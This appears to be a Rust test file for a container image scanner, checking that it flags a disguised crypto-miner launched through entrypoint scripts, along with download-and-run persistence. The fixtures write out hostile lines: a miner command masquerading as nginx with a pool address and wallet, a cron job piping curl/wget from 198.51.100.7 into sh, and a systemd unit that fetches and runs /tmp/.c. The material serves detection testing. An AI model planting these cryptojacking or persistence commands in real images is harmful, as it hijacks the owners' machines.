//! Issue 9 end to end: what an image runs is judged as commands wherever it lives. Images
//! are written by test code (`imgscan-testkit`); the "miner" is a tiny ELF with no miner
//! strings at all, so only the way it is run can give it away.

use imgscan_testkit::{gzip_layers, tiny_elf, Ent, ImageSpec};
use serde_json::Value;
use std::process::Command;

const WALLET: &str = "43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR";

fn scan(spec: &ImageSpec) -> (i32, Value) {
    let d = tempfile::tempdir().unwrap();
    imgscan_testkit::single_image_layout(d.path(), spec, "latest");
    let out = Command::new(env!("CARGO_BIN_EXE_imgscan"))
        .env("IMGSCAN_CACHE_DEFAULT", "none")
        .args(["scan", &format!("oci-dir:{}", d.path().display())])
        .args(["--format", "json", "--quiet"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let doc: Value = serde_json::from_str(&stdout).unwrap_or_else(|e| {
        panic!(
            "bad JSON ({e}): {stdout}\n{}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap_or(-1), doc)
}

fn findings(doc: &Value) -> Vec<Value> {
    doc["reports"][0]["findings"].as_array().unwrap().clone()
}

/// The findings about `path`, as (id, severity).
fn at(doc: &Value, path: &str) -> Vec<(String, String)> {
    findings(doc)
        .iter()
        .filter(|f| {
            f["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["location"]["path"] == path)
        })
        .map(|f| {
            (
                f["id"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn base(run_sh: &str) -> Vec<Ent> {
    vec![
        Ent::file("etc/os-release", "ID=test\n"),
        // A "web server" binary that carries nothing a string search could find.
        Ent::exe("usr/sbin/nginx", tiny_elf(b"\0plain server\0")),
        Ent::exe(
            "entrypoint.sh",
            "#!/bin/sh\nset -e\n. /etc/app.env\nexec /opt/svc/run.sh \"$@\"\n",
        ),
        Ent::file("etc/app.env", "APP_MODE=prod\n"),
        Ent::exe("opt/svc/run.sh", run_sh),
    ]
}

/// Gzip layers of `layers`, run as `/entrypoint.sh` (no cmd) with the usual `PATH`.
fn spec(layers: Vec<Vec<Ent>>) -> ImageSpec {
    ImageSpec {
        entrypoint: vec!["/entrypoint.sh".into()],
        cmd: vec![],
        ..ImageSpec::new(gzip_layers(&layers))
    }
}

#[test]
fn a_miner_started_by_a_script_the_entrypoint_runs_is_high() {
    let run = format!(
        "#!/bin/bash\n# start the service\nnginx -o 203.0.113.9:3333 -u {WALLET} -a rx/0 --threads=$(nproc) >/dev/null 2>&1 &\nwait\n"
    );
    let (code, doc) = scan(&spec(vec![base(&run)]));
    assert_eq!(code, 1, "{doc}");
    let f = findings(&doc)
        .into_iter()
        .find(|f| f["id"] == "IMG-MINER-COMMAND")
        .unwrap_or_else(|| panic!("no IMG-MINER-COMMAND: {doc}"));
    assert!(
        matches!(f["severity"].as_str(), Some("HIGH" | "CRITICAL")),
        "{f}"
    );
    let ev = f["evidence"].as_array().unwrap();
    let cmd = ev
        .iter()
        .find(|e| {
            e["signature"]
                .as_str()
                .unwrap()
                .starts_with("miner-cmdline")
        })
        .unwrap();
    assert_eq!(cmd["location"]["path"], "opt/svc/run.sh");
    assert_eq!(cmd["line"], 3, "{cmd}");
    // The finding says who runs the script, so a person can follow the chain.
    let why = ev
        .iter()
        .find(|e| e["signature"].as_str().unwrap().starts_with("run-by"))
        .unwrap_or_else(|| panic!("no run-by evidence: {f}"));
    assert!(
        why["excerpt"]
            .as_str()
            .unwrap()
            .contains("/entrypoint.sh line 4"),
        "{why}"
    );
    // The same YARA-L rule a SIEM runs sees the script's command connect to port 3333,
    // with the script and line as evidence.
    let rule = findings(&doc)
        .into_iter()
        .find(|f| f["id"] == "YARAL-t1204_003_malicious_image_execution")
        .unwrap_or_else(|| panic!("the seed rule did not fire: {doc}"));
    assert!(
        rule["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["location"]["path"] == "opt/svc/run.sh" && e["line"] == 3),
        "{rule}"
    );
}

#[test]
fn the_same_script_nobody_runs_is_medium_and_a_real_server_is_clean() {
    // Not referenced by the start command: only in a file (no wallet, which alone would
    // be HIGH whatever runs it).
    let run = "#!/bin/bash\nnginx -o 203.0.113.9:3333 -a rx/0 --threads=$(nproc)\n";
    let mut layer = base("#!/bin/sh\nexec nginx -g 'daemon off;'\n");
    layer.push(Ent::exe("opt/old/run.sh", run));
    let (_, doc) = scan(&spec(vec![layer]));
    let got = at(&doc, "opt/old/run.sh");
    assert!(
        got.contains(&("IMG-MINER-COMMAND".into(), "MEDIUM".into())),
        "{got:?}"
    );
    // The look-alike: the same chain of scripts starting a real server is clean.
    let (code, doc) = scan(&spec(vec![base(
        "#!/bin/sh\nexec nginx -g 'daemon off;' -c /etc/nginx/nginx.conf\n",
    )]));
    let loud: Vec<Value> = findings(&doc)
        .into_iter()
        .filter(|f| f["severity"] != "LOW" && f["severity"] != "INFO")
        .collect();
    assert!(loud.is_empty(), "{loud:?}");
    assert_eq!(code, 0);
}

#[test]
fn cron_and_units_that_download_and_run_are_persistence() {
    let mut layer = base("#!/bin/sh\nexec nginx -g 'daemon off;'\n");
    layer.push(Ent::file("etc/cron.d/sysupdate", "SHELL=/bin/sh\n*/15 * * * * root (curl -fsSL http://198.51.100.7/u.sh || wget -q -O- http://198.51.100.7/u.sh) | sh\n",
    ));
    layer.push(Ent::file("etc/systemd/system/cache.service", "[Service]\nExecStartPre=/usr/bin/wget -q -O /tmp/.c http://198.51.100.7/c\nExecStartPre=/bin/chmod +x /tmp/.c\nExecStart=/tmp/.c\n",
    ));
    // Debian's own cron entry and an ordinary unit: quiet.
    layer.push(Ent::file("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
    ));
    layer.push(Ent::file("etc/systemd/system/app.service", "[Service]\nExecStartPre=-/usr/bin/curl -fsS -o /run/app/config.json http://config.internal/app\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n",
    ));
    let (code, doc) = scan(&spec(vec![layer]));
    assert_eq!(code, 1);
    let cron = at(&doc, "etc/cron.d/sysupdate");
    assert!(
        cron.iter()
            .any(|(id, sev)| id == "IMG-PERSISTENCE" || sev == "CRITICAL"),
        "{cron:?}"
    );
    assert!(
        cron.iter()
            .all(|(_, sev)| sev == "HIGH" || sev == "CRITICAL"),
        "{cron:?}"
    );
    let unit = at(&doc, "etc/systemd/system/cache.service");
    assert!(
        unit.iter()
            .any(|(_, sev)| sev == "HIGH" || sev == "CRITICAL"),
        "{unit:?}"
    );
    assert!(at(&doc, "etc/cron.d/e2scrub_all").is_empty());
    assert!(at(&doc, "etc/systemd/system/app.service").is_empty());
}

#[test]
fn file_evidence_carries_the_sha256() {
    let run = format!("#!/bin/bash\nnginx -o 203.0.113.9:3333 -u {WALLET} -a rx/0 &\n");
    let (_, doc) = scan(&spec(vec![base(&run)]));
    let want = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(run.as_bytes()))
    };
    let f = findings(&doc)
        .into_iter()
        .find(|f| f["id"] == "IMG-MINER-COMMAND")
        .unwrap();
    assert_eq!(f["evidence"][0]["location"]["sha256"], want.as_str(), "{f}");
}
